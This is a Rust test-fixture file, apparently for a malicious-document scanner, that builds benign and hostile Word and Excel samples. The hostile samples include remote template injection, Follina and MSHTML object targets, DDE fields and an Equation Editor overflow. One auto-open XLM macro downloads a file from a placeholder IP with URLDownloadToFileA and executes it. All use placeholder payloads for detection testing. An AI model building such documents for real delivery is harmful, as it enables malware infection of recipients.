//! Documents in compound files and OOXML packages.

use crate::office::biff::Workbook;
use crate::office::cfb::{Cfb, packaged};
use crate::office::ooxml::Package;
use crate::program::pe::Pe;
use crate::{Sample, mark};

/// The samples.
pub(super) fn all() -> Vec<Sample> {
    [attacks(), honest()].into_iter().flatten().collect()
}

fn attacks() -> Vec<Sample> {
    vec![
        Sample {
            id: "fo1",
            file_name: "航空券控え.docx",
            about: "loads its template from a numeric address",
            make: || template("http://192.0.2.20/t.dotm"),
        },
        Sample {
            id: "fo1u",
            file_name: "航空券控え.docx",
            about: "loads its template from a share outside the network",
            make: || template(r"file:///\\192.0.2.20\s\t.dotm"),
        },
        Sample {
            id: "fo2",
            file_name: "資料.docx",
            about: "an object whose target is that of CVE-2021-40444",
            make: || object("mhtml:http://example.com/x!x-usc:http://example.com/x"),
        },
        Sample {
            id: "fo3",
            file_name: "資料.docx",
            about: "an object whose target is that of CVE-2022-30190",
            make: || object("https://example.com/x.html!"),
        },
        Sample { id: "fo4", file_name: "見積書.docx", about: "a DDEAUTO field over split runs", make: dde_field },
        Sample {
            id: "fo4x",
            file_name: "見積書.xlsx",
            about: "a DDE link that starts a program",
            make: || dde_link("cmd", "/c harmless-none.exe"),
        },
        Sample {
            id: "fo6",
            file_name: "報告書.doc",
            about: "an equation stream in odd spelling that holds no equation",
            make: || {
                word().class("ObjectPool/_1", EQUATION).stream("ObjectPool/_1/eQuatiON nATIve", mark("fo6")).build()
            },
        },
        Sample {
            id: "fo6f",
            file_name: "報告書.doc",
            about: "an equation whose font name is longer than the editor's buffer",
            make: || {
                let mut equation = equation();
                equation.truncate(38);
                equation.extend([b'A'; 60]);
                word().class("ObjectPool/_1", EQUATION).stream("ObjectPool/_1/Equation Native", equation).build()
            },
        },
        Sample {
            id: "fo7",
            file_name: "領収書.docx",
            about: "a packed program labelled as a PDF",
            make: packed_program,
        },
        Sample {
            id: "fo8",
            file_name: "ご案内.docx",
            about: "an ActiveX control of the class Shell.Explorer.1",
            make: || {
                Package::docx("ご案内")
                    .part(
                        "word/activeX/activeX1.xml",
                        "application/vnd.ms-office.activeX+xml",
                        "<ax:ocx ax:classid=\"{EAB22AC3-30C1-11CF-A7EB-0000C05BAE0B}\" \
                         xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>",
                    )
                    .internal("word/document.xml", "control", "activeX/activeX1.xml")
                    .build()
            },
        },
        Sample {
            id: "fo8t",
            file_name: "管理表.xls",
            about: "a tree control of the libraries known for memory corruption",
            make: || {
                Cfb::new()
                    .class("", EXCEL)
                    .stream("Workbook", Workbook::new().sheet("管理表", 0, 0).build())
                    .class("MBD00000001", "C74190B6-8589-11D1-B16A-00C0F0283628")
                    .stream("MBD00000001/Contents", vec![0; 80])
                    .build()
            },
        },
        Sample {
            id: "fo9",
            file_name: "申請書.docx",
            about: "asks to install an add-in from a web server",
            make: || {
                Package::docx("申請書")
                    .part(
                        "docProps/custom.xml",
                        CUSTOM_TYPE,
                        custom("_AssemblyLocation", "https://example.com/a.vsto|x"),
                    )
                    .internal("", "custom-properties", "docProps/custom.xml")
                    .build()
            },
        },
        Sample {
            id: "fo9u",
            file_name: "申請書.docx",
            about: "a ribbon whose callback is in another file",
            make: || {
                Package::docx("申請書")
                    .part(
                        "customUI/customUI.xml",
                        "",
                        "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\" \
                         onLoad=\"https://example.com/a.xlsm!Start\"/>",
                    )
                    .relation(
                        "",
                        "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
                        "customUI/customUI.xml",
                        false,
                    )
                    .build()
            },
        },
        Sample {
            id: "fo10r",
            file_name: "資料.docx",
            about: "an object from a numeric address",
            make: || object("http://192.0.2.20/a.docx"),
        },
        Sample {
            id: "fo10l",
            file_name: "報告書.doc",
            about: "a linked object whose moniker is a web address",
            make: || {
                let moniker =
                    [0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0x00, 0xAA, 0x00, 0x4B, 0xA9, 0x0B];
                let address: Vec<u8> = "http://192.0.2.20/a.doc\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
                let size = (address.len() as u32).to_le_bytes();
                word()
                    .class("ObjectPool/_1", "00000300-0000-0000-C000-000000000046")
                    .stream("ObjectPool/_1/\u{1}Ole", [&[1, 0, 0, 2][..], &[0; 16], &moniker, &size, &address].concat())
                    .build()
            },
        },
        Sample {
            id: "fo15",
            file_name: "お知らせ.docx",
            about: "merges an RTF and takes pictures from a share and a web server",
            make: || {
                Package::docx("お知らせ")
                    .part("word/afchunk.rtf", "application/rtf", format!("{{\\rtf1 {}}}", mark("fo15")))
                    .internal("word/document.xml", "aFChunk", "afchunk.rtf")
                    .external("word/document.xml", "image", r"\\198.51.100.9\p\a.png")
                    .external("word/document.xml", "image", "https://example.com/pixel.png")
                    .build()
            },
        },
        Sample {
            id: "t16",
            file_name: "請求書.xls",
            about: "a very hidden macro sheet that runs when the workbook opens",
            make: || {
                let book = Workbook::new()
                    .sheet("請求書", 0, 0)
                    .sheet("Macro1", 2, 1)
                    .column(&[
                        "IF(GET.WORKSPACE(19),GOTO(A3))",
                        "CLOSE(FALSE)",
                        "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http\"&\"://198.51.100.7/x\",\"harmless-none.exe\",0,0)",
                        "EXEC(\"harmless-none.exe\")",
                        "HALT()",
                    ])
                    .auto_open_at(1)
                    .build();
                Cfb::new().class("", EXCEL).stream("Workbook", book).build()
            },
        },
    ]
}

fn honest() -> Vec<Sample> {
    vec![
        Sample {
            id: "b04",
            file_name: "社内様式.docx",
            about: "a template on a named web server, as companies have",
            make: || template("https://templates.example.com/form.dotx"),
        },
        Sample {
            id: "b12d",
            file_name: "講義資料.docx",
            about: "an honest equation of the old editor",
            make: || {
                let equation = Cfb::new().class("", EQUATION).stream("Equation Native", equation()).build();
                Package::docx("講義資料").ole_object(1, equation).build()
            },
        },
        Sample {
            id: "b12x",
            file_name: "株価.xlsx",
            about: "an honest DDE link to a feed of market data",
            make: || dde_link("RSS", "9984.T"),
        },
        Sample {
            id: "b14",
            file_name: "操作手順.docx",
            about: "an IT manual that quotes commands and the words of lures",
            make: manual,
        },
        Sample {
            id: "bo5",
            file_name: "報告書.doc",
            about: "a document whose text is cut off by a broken chain",
            make: || {
                let mut bytes = word().build();
                let fat = 512 + usize::from(bytes[76]) * 512;
                // A sector of the text leads nowhere.
                bytes[fat + 36..fat + 40].copy_from_slice(&[0xEE, 0xEE, 0xEE, 0]);
                bytes
            },
        },
        Sample {
            id: "bo6",
            file_name: "議事録.docx",
            about: "a document with a list of relationships that breaks off",
            make: || {
                Package::docx("議事録")
                    .part("word/_rels/footer1.xml.rels", "", "<Relationships><Relationship Id=\"")
                    .build()
            },
        },
        Sample {
            id: "bo7",
            file_name: "報告書.docx",
            about: "a text file packed into a report",
            make: || {
                let stream = packaged("メモ.txt", r"C:\Users\taro\メモ.txt", "打合せのメモ".as_bytes());
                let object = Cfb::new().class("", PACKAGE).stream("\u{1}Ole10Native", stream).build();
                Package::docx("報告書").ole_object(1, object).build()
            },
        },
        Sample {
            id: "bo1",
            file_name: "議事録.docx",
            about: "a plain document with a link",
            make: || {
                Package::docx("議事録\n日時：3月15日\n出席者：山田、佐藤")
                    .external("word/document.xml", "hyperlink", "https://example.com/minutes")
                    .build()
            },
        },
        Sample {
            id: "bo2",
            file_name: "売上.xls",
            about: "a plain workbook of the old format, with a hidden worksheet",
            make: || {
                let book = Workbook::new().sheet("売上", 0, 0).sheet("マスタ", 1, 0).label("合計").build();
                Cfb::new().class("", EXCEL).stream("Workbook", book).build()
            },
        },
        Sample {
            id: "bo3",
            file_name: "報告書.doc",
            about: "a plain document of the old format",
            make: || word().build(),
        },
        Sample {
            id: "bo4",
            file_name: "名簿.xlsx",
            about: "a plain workbook",
            make: || Package::xlsx("氏名\t部署\n山田太郎\t営業部").build(),
        },
    ]
}

const EQUATION: &str = "0002CE02-0000-0000-C000-000000000046";
const EXCEL: &str = "00020820-0000-0000-C000-000000000046";
const PACKAGE: &str = "0003000C-0000-0000-C000-000000000046";
const CUSTOM_TYPE: &str = "application/vnd.openxmlformats-officedocument.custom-properties+xml";

fn template(target: &str) -> Vec<u8> {
    Package::docx("航空券控え").external("word/settings.xml", "attachedTemplate", target).build()
}

fn object(target: &str) -> Vec<u8> {
    Package::docx("資料").external("word/document.xml", "oleObject", target).build()
}

fn packed_program() -> Vec<u8> {
    let stream = packaged("領収書.pdf", r"C:\Users\taro\Desktop\領収書.pdf.exe", &Pe::new().build());
    let object = Cfb::new().class("", PACKAGE).stream("\u{1}Ole10Native", stream).build();
    Package::docx("領収書").ole_object(1, object).build()
}

fn dde_field() -> Vec<u8> {
    let run = |content: &str| format!("<w:r>{content}</w:r>");
    let field = [
        "<w:fldChar w:fldCharType=\"begin\"/>",
        "<w:instrText xml:space=\"preserve\"> DDE</w:instrText>",
        "<w:instrText xml:space=\"preserve\">AUTO harmless-none.exe \"</w:instrText>",
        "<w:instrText xml:space=\"preserve\">HARMLESS-SAMPLE/1 fo4\"</w:instrText>",
        "<w:fldChar w:fldCharType=\"end\"/>",
    ];
    let body: String = field.iter().map(|content| run(content)).collect();
    Package::docx("")
        .part(
            "word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            format!(
                "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>\
                 <w:p>{body}</w:p></w:body></w:document>"
            ),
        )
        .build()
}

fn dde_link(service: &str, topic: &str) -> Vec<u8> {
    Package::xlsx("銘柄\t株価")
        .part(
            "xl/externalLinks/externalLink1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
            format!(
                "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
                 <ddeLink ddeService=\"{service}\" ddeTopic=\"{topic}\"><ddeItems><ddeItem name=\"A1\"/></ddeItems>\
                 </ddeLink></externalLink>"
            ),
        )
        .internal("xl/workbook.xml", "externalLink", "externalLinks/externalLink1.xml")
        .build()
}

fn custom(name: &str, value: &str) -> String {
    format!(
        "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\" \
         xmlns:vt=\"http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes\">\
         <property fmtid=\"{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}\" pid=\"2\" name=\"{name}\">\
         <vt:lpwstr>{value}</vt:lpwstr></property></Properties>"
    )
}

/// The streams of a Word 97 document; the text is not laid out as Word would.
fn word() -> Cfb {
    let mut document = vec![0u8; 0x400];
    document[..4].copy_from_slice(&[0xEC, 0xA5, 0xC1, 0x00]);
    let text: Vec<u8> = "報告書\r本件について報告します。\r".encode_utf16().flat_map(u16::to_le_bytes).collect();
    document.extend(text);
    document.resize(4096, 0);
    Cfb::new()
        .class("", "00020906-0000-0000-C000-000000000046")
        .stream("WordDocument", document)
        .stream("1Table", vec![0; 4096])
}

/// EQNOLEFILEHDR, the MTEF header, and a font of ordinary length.
fn equation() -> Vec<u8> {
    let mut stream = vec![0u8; 28];
    stream[0] = 28;
    stream[4] = 2;
    stream.extend([3, 1, 1, 3, 10, 0x0A, 0x01, 0x08, 0x81, 0x00]);
    stream.extend(b"Times New Roman\0");
    stream
}

fn manual() -> Vec<u8> {
    Package::docx(
        "操作手順書（情報システム部）\n\
         1. キーボードの Win+R を押し、「cmd」と入力して Enter を押します。\n\
         2. PowerShell で Get-ComputerInfo を実行し、結果を控えます。\n\
         3. 様式を開いたとき「コンテンツの有効化」が表示されたら、担当者に連絡してください。押さないでください。\n\
         4. 例: powershell.exe -NoProfile -Command \"Get-Date\"\n\
         詳しくは https://example.com/manual をご覧ください。",
    )
    .external("word/document.xml", "hyperlink", "https://example.com/manual")
    .build()
}
